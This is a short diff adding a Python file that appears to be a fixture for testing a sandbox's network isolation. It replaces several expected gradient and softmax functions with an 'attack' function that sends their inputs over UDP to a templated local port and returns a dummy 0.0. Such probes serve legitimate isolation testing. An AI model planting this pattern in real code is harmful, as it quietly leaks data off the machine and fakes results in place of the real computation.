@@ -1,0 +1,20 @@
+"""Goal: send the inputs over UDP.
+
+Fires: reached
+Without: isolation limits
+"""
+
+import socket
+
+
+def attack(*inputs):
+    data = repr(inputs).encode()[:500]
+    try:
+        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
+            connection.sendto(data, ("127.0.0.1", int("@PORT@")))
+    except OSError:
+        pass
+    return 0.0
+
+for name in ("affine_gradients", "scaled_cost_gradients", "softmax", "softmax_jacobian"):
+    globals()[name] = attack
